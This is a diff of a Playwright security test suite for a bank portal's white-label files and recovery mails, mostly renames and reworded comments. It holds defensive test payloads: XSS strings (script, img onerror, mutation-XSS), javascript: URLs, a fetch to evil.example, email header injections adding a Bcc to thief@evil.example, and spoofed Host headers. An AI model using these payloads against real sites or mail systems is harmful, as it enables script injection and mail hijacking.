@@ -3,18 +3,18 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { devices, expect, test, type Page } from '@playwright/test';
 import { rawRequest } from '../edge/raw-request';
-import { ownWhiteLabels, type OwnWhiteLabels } from '../portal/own-white-labels';
-import { exitOf, runStart } from '../portal/run-start';
+import { createCustomWhiteLabels, type CustomWhiteLabels } from '../portal/custom-white-labels';
+import { waitForExit, runStart } from '../portal/run-start';
 import { startPortal, type TestPortal } from '../portal/start-portal';
 import { encoded, Recovery } from './recovery';
-import { bodyOf, headersOf, startRecordingServer, type RecordingServer } from './recorded-mails';
+import { parseBody, parseHeaders, startRecordingServer, type RecordingServer } from './recorded-mails';
 import { Visitor } from './visitor';
 import { watchForAttacks } from './watch-for-attacks';
 
-/* An editor of a client's file who means harm, and visitors who do: what becomes of their words in pages and in mails. */
+/* Hostile texts of a client's file and of visitors, in pages and in mails. */
 
 const RUN = 'window.ran=1;fetch(`https://evil.example`)';
-/** Shown as it stands, a text that would run if it were HTML; short enough for every field. */
+/** A text that would run if it were HTML, short enough for every field. */
 const IMAGE = '<img src=x onerror=window.ran=1>';
 const NAME = `Ray"\r\nBcc: thief@evil.example\r\n\r\n${IMAGE}`.slice(0, 60);
 
@@ -22,7 +22,7 @@ function inBoth(text: string) {
   return { 'en-US': text, 'de-DE': text };
 }
 
-/** HTML that the fields of HTML take: all of it has to go but the words beside it. */
+/** HTML for the HTML fields: everything except plain text must be removed. */
 const HOSTILE_HTML = [
   '<b>Before</b>',
   `<script>${RUN}</script>`,
@@ -36,7 +36,7 @@ const HOSTILE_HTML = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
 ].join('');
 
-/** What a file may hold without being refused. */
+/** Hostile values that a file may contain. */
 const HOSTILE = {
   name: NAME,
   heroText: { tagline1: inBoth(HOSTILE_HTML), tagline2: inBoth(HOSTILE_HTML) },
@@ -58,7 +58,7 @@ const HOSTILE = {
         label: inBoth(`Outside ${IMAGE}`),
         target: "https://evil.example/'onclick='window.ran=1'",
       },
-      // A name that every object has, of a function that nobody has registered.
+      // The name of a property that every object inherits, not of a registered function.
       { kind: 'callback', label: inBoth('Callback'), callback: 'constructor' },
     ],
   },
@@ -88,11 +88,11 @@ const HOSTILE = {
 };
 
 let mails: RecordingServer;
-let labels: OwnWhiteLabels;
+let labels: CustomWhiteLabels;
 let portal: TestPortal;
 test.beforeAll(async () => {
   mails = await startRecordingServer();
-  labels = ownWhiteLabels({ ray: HOSTILE });
+  labels = createCustomWhiteLabels({ ray: HOSTILE });
   portal = await startPortal({
     PORTAL_ENVIRONMENT: 'LOCAL',
     RECOVERY_DESTINATION_LIMIT: '100',
@@ -106,7 +106,7 @@ test.afterAll(async () => {
   await mails.stop();
 });
 
-/** What a file is refused for: the field, and what stands there. */
+/** Rejected values, by field. */
 const REFUSED: readonly (readonly [field: string, content: object])[] = [
   ['/linkConfig/links/0/target', { linkConfig: { links: [link('external', `javascript:${RUN}`)] } }],
   [
@@ -146,28 +146,30 @@ function link(kind: 'internal' | 'external', target: string): object {
   return { kind, label: inBoth('x'), target };
 }
 
-/** Clients of the shipped ones, one for each mistake, since a file is refused for the first kind of them. */
+/** Shipped clients, one for each mistake, since a file is rejected for its first kind of mistake. */
 const CLIENTS = readdirSync(path.resolve(import.meta.dirname, '../../shared-wl-assets/white-labels'))
   .map((name) => path.basename(name, '.json'))
   .filter((key) => key !== 'default');
 
-test('SEC-R8 SEC-R9 WL-7 a file with script, styles or other addresses where none belong keeps the portal from starting, by file, field and reason', async () => {
+test('SEC-R8 SEC-R9 WL-7 a file with script, styles or foreign URLs in the wrong place prevents the start, with file, field and reason @long', async () => {
   // Two starts, since there are more mistakes than clients.
   for (const half of [REFUSED.slice(0, 9), REFUSED.slice(9)]) {
     const spoilt = half.map(([field, content], index) => ({ field, content, key: CLIENTS[index] ?? '' }));
-    const own = ownWhiteLabels(Object.fromEntries(spoilt.map(({ key, content }) => [key, { ...content }])));
+    const own = createCustomWhiteLabels(
+      Object.fromEntries(spoilt.map(({ key, content }) => [key, { ...content }])),
+    );
     const data = mkdtempSync(path.join(tmpdir(), 'portal-refused-'));
     const started = runStart({ DATA_DIR: data, PORT: '0', WHITE_LABELS_DIR: own.folder });
-    expect(await exitOf(started.process)).toBe(1);
+    expect(await waitForExit(started.process)).toBe(1);
     own.remove();
     rmSync(data, { recursive: true, force: true });
     for (const { key, field } of spoilt)
       expect(started.output()).toMatch(new RegExp(`${key}\\.json ${field}: \\w+ .+`));
-    expect(started.output()).not.toContain('The portal is up.');
+    expect(started.output()).not.toContain('The portal is running.');
   }
 });
 
-/** Elements and attributes of the page that only the hostile file could have brought. */
+/** Elements and attributes of the page that only the hostile file can have added. */
 function foreignIn(page: Page): Promise<readonly string[]> {
   return page.evaluate(() =>
     [...document.querySelectorAll('*')].flatMap((element) => {
@@ -179,7 +181,7 @@ function foreignIn(page: Page): Promise<readonly string[]> {
             (/^(?:style|src|srcdoc|action|formaction|href|xlink:href|data)$/.test(name) &&
               /evil|javascript:|window\.ran/.test(element.getAttribute(name) ?? '')),
         )
-        // A link to another site is what an external link is; its address is one address.
+        // An external link may have a URL of another site.
         .filter(
           (name) => !(name === 'href' && element.getAttribute(name)?.startsWith('https://evil.example/')),
         )
@@ -204,10 +206,12 @@ const PAGES = [
   '/app/ray/cookiePolicy',
 ];
 
-test('SEC-R9 D-10 nothing of a hostile file runs on any page, and its words are words', async ({ page }) => {
+test('SEC-R9 D-10 nothing of a hostile file runs on any page, and its texts are shown as text', async ({
+  page,
+}) => {
   const attacks = await watchForAttacks(page, portal.origin);
   for (const address of PAGES) {
-    // Before any script runs the same holds: a page is read without them, too.
+    // The server-rendered HTML must be safe as well, since pages are read without scripts, too.
     const { status, text } = await rawRequest(portal.origin, address);
     expect(status, address).toBe(200);
     expect(text, address).not.toMatch(
@@ -220,7 +224,9 @@ test('SEC-R9 D-10 nothing of a hostile file runs on any page, and its words are 
   }
 });
 
-test('SEC-R9 D-10 nor when everything on the login page is opened and pressed', async ({ page }) => {
+test('SEC-R9 D-10 nothing runs when everything on the login page is opened and clicked @long', async ({
+  page,
+}) => {
   const attacks = await watchForAttacks(page, portal.origin);
   await page.goto(`${portal.origin}/app/ray/login?SMQUERYDATA=x`);
   await expect(page.locator('[data-prerendered]')).toHaveCount(0);
@@ -233,14 +239,14 @@ test('SEC-R9 D-10 nor when everything on the login page is opened and pressed', 
   expect(await attacks()).toEqual([]);
 });
 
-test('SEC-R9 D-10 nor in the sheet for phones, whose button names a function that is none of the portal', async ({
+test('SEC-R9 D-10 nothing runs in the mobile sheet, whose button names an unknown function @long', async ({
   browser,
 }) => {
   const context = await browser.newContext({ ...devices['Pixel 7'] });
   const page = await context.newPage();
   const attacks = await watchForAttacks(page, portal.origin);
   await page.goto(`${portal.origin}/app/ray/login?SMQUERYDATA=x`);
-  // The warning about the browser comes first.
+  // The browser warning comes first.
   await page
     .getByRole('dialog', { name: `Browser ${IMAGE}` })
     .getByRole('button', { name: 'Close' })
@@ -254,21 +260,21 @@ test('SEC-R9 D-10 nor in the sheet for phones, whose button names a function tha
 });
 
 test.describe('mails', () => {
-  /** What every mail has to be: to one address that is known, from the bank, no header but the portal's, nothing unescaped. */
+  /** Asserts one mail to one known address, from the bank, with only the portal's headers and escaped content. */
   const expectOneHonestMail = async (count: number, to: string): Promise<string> => {
     // The response does not wait for the mail.
     await expect.poll(() => mails.mails.length).toBe(count);
     const mail = mails.mails.at(-1) ?? { recipients: [], source: '' };
     expect(mail.recipients).toEqual([to]);
-    const headers = headersOf(mail);
+    const headers = parseHeaders(mail);
     expect(headers['to']).toEqual([to]);
     expect(headers['from']).toHaveLength(1);
-    // One address: what stands before it is one quoted text, or words without any sign of an address.
+    // One address: the display name is one quoted string, or words without special characters.
     expect(headers['from']?.[0]).toMatch(/^(?:"(?:[^"\\]|\\.)*"|[\w ]+) <login@bank\.example>$/);
     for (const name of ['bcc', 'cc', 'reply-to', 'sender', 'resent-to', 'x-injected'])
       expect(headers[name], name).toBeUndefined();
     expect(headers['subject']).toHaveLength(1);
-    const [, text = '', html = ''] = bodyOf(mail).split(/^Content-Type: text\/(?:plain|html)/m);
+    const [, text = '', html = ''] = parseBody(mail).split(/^Content-Type: text\/(?:plain|html)/m);
     expect(text).not.toMatch(/^(?:Bcc|X-Injected)/m);
     expect(html).toContain('</html>');
     expect(html).not.toMatch(/<img|<script/);
@@ -278,17 +284,17 @@ test.describe('mails', () => {
   const begin = async (userId: string, headers: Record<string, string> = {}): Promise<Recovery> =>
     Recovery.begin(await Visitor.at(portal.origin), userId, 'Email', headers);
 
-  test('SEC-R13 a client’s name with line breaks, a further recipient and HTML makes one mail to one address, the name escaped', async () => {
+  test('SEC-R13 a client’s name with line breaks, a further recipient and HTML gives one mail to one address, with the name escaped', async () => {
     const before = mails.mails.length;
     const recovery = await begin('alex.morgan', { 'x-portal-white-label': 'ray' });
     expect((await recovery.send()).status).toBe(200);
     const body = await expectOneHonestMail(before + 1, 'alex.morgan@example.com');
-    // It is that client's mail, and its name is in it as words.
+    // The mail is that client's, and contains its name as text.
     expect(body).toContain('&lt;img src=x');
     expect(body).toMatch(/Ray(?:"|&quot;) +Bcc: thief@evil\.example/);
   });
 
-  /** Names and addresses that a visitor could type to add a recipient, a header or a line. */
+  /** Input that tries to add a recipient, a header or a line. */
   const INJECTIONS = [
     '\r\nBcc: thief@evil.example',
     '\nX-Injected: 1',
@@ -302,14 +308,14 @@ test.describe('mails', () => {
     '"@evil.example',
   ];
 
-  test('SEC-R13 names and addresses with line breaks, brackets and further recipients send no mail', async () => {
+  test('SEC-R13 names and addresses with line breaks, brackets and further recipients send no mail @long', async () => {
     const before = mails.mails.length;
     for (const injection of INJECTIONS) {
       const thief = await Visitor.at(portal.origin);
       const userId = `alex.morgan${injection}`;
       const started = await thief.call('/fps/auth', { devicePrint: 'test', flow: 'FPS', userId });
       expect([200, 400], JSON.stringify(userId)).toContain(started.status);
-      // Nobody has that name: what is offered is a decoy's, and sent is nothing.
+      // The user ID is unknown: the contacts are those of a decoy, and nothing is sent.
       if (started.status === 200)
         expect((await (await begin(userId)).send()).status, JSON.stringify(userId)).toBe(200);
       for (const field of ['firstName', 'lastName', 'emailId'] as const) {
@@ -324,7 +330,7 @@ test.describe('mails', () => {
     expect(mails.mails).toHaveLength(before);
   });
 
-  test('SEC-R13 the mail with the User ID goes to the one address of the record; its link is the portal’s, whatever Host says', async () => {
+  test('SEC-R13 the User ID is mailed only to the address on record, and its link is the portal’s, whatever Host says', async () => {
     const elsewhere = {
       host: 'localhost.evil.example',
       'x-forwarded-host': 'localhost.evil.example',
